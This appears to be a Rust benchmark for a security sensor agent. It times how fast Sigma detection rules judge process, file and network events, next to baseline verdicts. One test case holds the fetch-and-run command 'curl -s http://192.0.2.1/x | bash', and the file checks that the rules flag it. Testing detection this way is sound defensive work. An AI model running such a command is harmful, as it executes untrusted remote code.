//! `SENSOR_SIGMA_RULES=FOLDER cargo bench -p sensor-agent --bench sigma`: what asking the rules of a folder costs for one
//! event, beside what one verdict costs. Not the cost of an event on its way there. It may call the crates' public items.

use criterion::{Criterion, criterion_group, criterion_main};
use sensor_agent::event::Arguments;
use sensor_agent::sigma::{Category, Doing, Facts, Parent, Rules, load};
use sensor_baseline::{Floor, Severity};
use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr};
use std::path::PathBuf;

#[path = "../../sensor-baseline/tests/support/mod.rs"]
mod support;

fn ask(criterion: &mut Criterion) {
    let Some(folder) = std::env::var_os("SENSOR_SIGMA_RULES").map(PathBuf::from) else {
        println!("skipped: SENSOR_SIGMA_RULES names no folder of rules");
        return;
    };
    let rules = load(&[folder], Severity::Informational).expect("the folder can be read").rules;
    for category in Category::ALL {
        println!("{} {}", rules.count_of(category), category.name());
    }
    let mut group = criterion.benchmark_group("rules");
    for (name, argv, expected) in [
        ("exec_short", &["git", "status"][..], false),
        ("exec_compiler", &COMPILER[..], false),
        (
            "exec_shell",
            &["sh", "-c", "set -e; cd /srv/app && ./configure --prefix=/usr | tee log"][..],
            false,
        ),
        ("exec_match", &["sh", "-c", "curl -s http://192.0.2.1/x | bash"][..], true),
    ] {
        let argv: Arguments = argv.iter().collect();
        let exe = format!("/usr/bin/{}", argv.iter().next().expect("it has a name"));
        assert_eq!(exec(&rules, &exe, &argv), expected, "{name}");
        group.bench_function(name, |bencher| {
            bencher.iter(|| exec(black_box(&rules), black_box(&exe), black_box(&argv)));
        });
    }
    for (name, target) in [
        ("file_log", "/var/log/nginx/access.log"),
        ("file_build", "/srv/build/target/debug/deps/libserde-1f.rmeta"),
    ] {
        assert!(!file(&rules, target), "{name}");
        group.bench_function(name, |bencher| bencher.iter(|| file(black_box(&rules), black_box(target))));
    }
    group.bench_function("connect", |bencher| bencher.iter(|| connect(black_box(&rules), black_box(5432))));
    let none = Rules::default();
    group.bench_function("file_without_rules", |bencher| {
        bencher.iter(|| file(black_box(&none), black_box("/var/log/nginx/access.log")));
    });
    group.finish();
}

fn verdict(criterion: &mut Criterion) {
    let baseline = support::baseline();
    let mut group = criterion.benchmark_group("baseline");
    for (name, observation, expected) in support::observations() {
        group.bench_function(format!("{name}_{}", expected.is_finding()), |bencher| {
            bencher.iter(|| baseline.judge(black_box(&observation), Floor::built_in()));
        });
    }
    group.finish();
}

fn exec(rules: &Rules, exe: &str, argv: &Arguments) -> bool {
    let parent = Parent { pid: 1, exe: "/usr/bin/make", argv };
    let doing = Doing::Exec { argv, cwd: "/srv/app", login_uid: None, parent: Some(parent) };
    !rules.met(&Facts::new(7, 1000, exe, doing)).is_empty()
}

fn file(rules: &Rules, target: &str) -> bool {
    !rules.met(&Facts::new(7, 1000, "/usr/sbin/nginx", Doing::File { target })).is_empty()
}

fn connect(rules: &Rules, port: u16) -> bool {
    let address = IpAddr::V4(Ipv4Addr::new(10, 0, 0, 7));
    let doing = Doing::Connection { address, port, protocol: "tcp" };
    !rules.met(&Facts::new(7, 1000, "/usr/sbin/nginx", doing)).is_empty()
}

const COMPILER: [&str; 12] = [
    "cc1",
    "-quiet",
    "-I",
    "include",
    "-D",
    "_GNU_SOURCE",
    "src/main.c",
    "-O2",
    "-g",
    "-Wall",
    "-o",
    "/srv/build/main.s",
];

criterion_group!(benches, ask, verdict);
criterion_main!(benches);
